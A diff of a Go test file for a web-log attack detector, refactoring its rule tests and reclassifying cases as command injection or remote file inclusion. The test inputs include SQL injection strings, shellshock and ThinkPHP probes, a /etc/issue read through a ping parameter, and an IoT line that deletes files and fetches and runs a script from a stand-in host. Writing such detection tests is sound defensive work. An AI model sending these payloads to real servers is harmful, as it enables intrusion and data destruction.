@@ -145,15 +145,19 @@ func seq(n int, format string, status int, step time.Duration) []req {
 
 // outcome of a case: "hit" (suspicious with the category), "weak" (only a
 // below-threshold match of the category), "none" (no match of the category).
+// ruleCase is one table-driven rule test: the requests of attacker, the
+// category to look at, and whether it must be a hit, a weak hit or nothing.
+type ruleCase struct {
+	name string
+	reqs []req
+	cat  evidence.Category
+	want string
+	sev  evidence.Severity // checked when want == "hit" and sev != 0
+	why  string            // substring of the reason, when set
+}
+
 func TestRules(t *testing.T) {
-	tests := []struct {
-		name string
-		reqs []req
-		cat  evidence.Category
-		want string
-		sev  evidence.Severity // checked when want == "hit" and sev != 0
-		why  string            // substring of the reason, when set
-	}{
+	runRuleCases(t, []ruleCase{
 		// sensitive files
 		{"sensitive two files", each(404, "curl/8", "/.env", "/.git/HEAD"), evidence.SensitiveFiles, "hit", evidence.Medium, "2 distinct sensitive files"},
 		{"sensitive one file is weak", each(404, "curl/8", "/.env"), evidence.SensitiveFiles, "weak", 0, ""},
@@ -206,7 +210,7 @@ func TestRules(t *testing.T) {
 		{"union comment obfuscated", each(200, "", "/item?id=1/**/UNION/**/SELECT/**/1,2"), evidence.SQLInjection, "hit", 0, ""},
 		{"tautology", each(200, "", "/login?user=admin'%20or%20'1'='1"), evidence.SQLInjection, "hit", 0, ""},
 		{"information_schema", each(404, "", "/foo?a=information_schema.tables"), evidence.SQLInjection, "hit", 0, ""},
-		{"sleep twice", each(404, "", "/foo?a=sleep%285%29", "/foo?b=md5%28x%29"), evidence.SQLInjection, "hit", 0, "weak markers"},
+		{"two weak sql markers", each(404, "", "/foo?a=char%2865%29", "/foo?b=md5%28x%29"), evidence.SQLInjection, "hit", 0, "weak markers"},
 		{"one weak sql marker", each(200, browser, "/search?q=upper(case)"), evidence.SQLInjection, "weak", 0, ""},
 		{"search text with select and from", each(200, browser, "/search?q=how+to+select+rows+from+a+table", "/search?q=rock+'n'+roll+and+jazz"), evidence.SQLInjection, "none", 0, ""},
 		{"union in plain words", each(200, browser, "/news/european-union-summit"), evidence.SQLInjection, "none", 0, ""},
@@ -231,15 +235,15 @@ func TestRules(t *testing.T) {
 		{"cacti", each(404, "", "/remote_agent.php?action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping%20%24%28whoami%29.test.com"), evidence.CVEProbe, "hit", 0, ""},
 		{"shellshock UA", each(200, "() { :; }; /bin/bash -c 'id'", "/cgi-bin/status"), evidence.CVEProbe, "hit", 0, ""},
 		{"thinkphp", each(404, "", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"), evidence.CVEProbe, "hit", 0, ""},
-		{"iot shell", each(404, "Hello, world", "/shell?cd+/tmp;rm+-rf+*;wget+a.example/jaws;sh+/tmp/jaws"), evidence.CVEProbe, "hit", 0, ""},
+		{"iot shell", each(404, "Hello, world", "/shell?cd+/tmp;rm+-rf+*;wget+a.example/jaws;sh+/tmp/jaws"), evidence.CommandInjection, "hit", 0, ""},
 		{"spring4shell", each(400, "", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), evidence.CVEProbe, "hit", 0, ""},
 		{"phpunit", each(404, "", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), evidence.CVEProbe, "hit", 0, ""},
-		{"rfi", each(404, "", "/start.php?lang=http://cirt.net/rfiinc.txt?"), evidence.CVEProbe, "hit", 0, ""},
-		{"shell injection after a metacharacter", each(200, "", "/ping?host=127.0.0.1%3Bcat%20/etc/issue"), evidence.CVEProbe, "hit", 0, "shell command"},
-		{"command substitution", each(200, "", "/api?x=%24(id)"), evidence.CVEProbe, "hit", 0, ""},
-		{"searching for shell commands", each(200, browser, "/search?q=rm+-rf+explained", "/search?q=curl+examples", "/search?q=cats+%26+dogs"), evidence.CVEProbe, "weak", 0, ""},
-		{"ordinary parameters", each(200, browser, "/index.php?cmd=login", "/blog/think/apple-review", "/shop;jsessionid=ab12?id=3", "/a?x=1&&y=2"), evidence.CVEProbe, "none", 0, ""},
-		{"redirect url is not rfi", each(200, browser, "/login?next=https://example.com/account", "/out?url=http://example.org/page.html"), evidence.CVEProbe, "none", 0, ""},
+		{"rfi", each(404, "", "/start.php?lang=http://cirt.net/rfiinc.txt?"), evidence.RFI, "hit", 0, ""},
+		{"shell injection after a metacharacter", each(200, "", "/ping?host=127.0.0.1%3Bcat%20/etc/issue"), evidence.CommandInjection, "hit", 0, "shell command"},
+		{"command substitution", each(200, "", "/api?x=%24(id)"), evidence.CommandInjection, "hit", 0, ""},
+		{"searching for shell commands", each(200, browser, "/search?q=rm+-rf+explained", "/search?q=curl+examples", "/search?q=cats+%26+dogs"), evidence.CommandInjection, "weak", 0, ""},
+		{"ordinary parameters", each(200, browser, "/index.php?cmd=login", "/blog/think/apple-review", "/shop;jsessionid=ab12?id=3", "/a?x=1&&y=2"), evidence.CommandInjection, "none", 0, ""},
+		{"redirect url is not rfi", each(200, browser, "/login?next=https://example.com/account", "/out?url=http://example.org/page.html"), evidence.RFI, "none", 0, ""},
 
 		// webshells
 		{"webshell", each(404, "", "/shell.php"), evidence.Webshell, "hit", evidence.High, ""},
@@ -249,7 +253,7 @@ func TestRules(t *testing.T) {
 		// scanner user agents
 		{"nikto", each(200, "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "/"), evidence.ScannerUA, "hit", evidence.Medium, "nikto"},
 		{"sqlmap", each(200, "sqlmap/1.7.2#stable (https://sqlmap.org)", "/"), evidence.ScannerUA, "hit", 0, ""},
-		{"locale in a user agent is not a command", each(200, "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", "/", "/about"), evidence.CVEProbe, "none", 0, ""},
+		{"locale in a user agent is not a command", each(200, "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", "/", "/about"), evidence.CommandInjection, "none", 0, ""},
 		{"python-requests alone is not an attack", each(200, "python-requests/2.31.0", "/", "/about"), evidence.ScannerUA, "none", 0, ""},
 
 		// http probing bursts
@@ -291,7 +295,11 @@ func TestRules(t *testing.T) {
 		{"proxy attempt", []req{{ip: attacker, target: "http://www.example.org/", status: 404}}, evidence.BadRequest, "hit", 0, "proxy"},
 		{"one empty request line", []req{{ip: attacker, bad: true, target: "-", status: 408}}, evidence.BadRequest, "none", 0, ""},
 		{"empty request lines", []req{{ip: attacker, bad: true, target: "-", status: 408}, {ip: attacker, bad: true, target: "", status: 400}, {ip: attacker, bad: true, target: "-", status: 408}}, evidence.BadRequest, "hit", 0, ""},
-	}
+	})
+}
+
+func runRuleCases(t *testing.T, tests []ruleCase) {
+	t.Helper()
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			c := run(t, Config{}, tt.reqs)
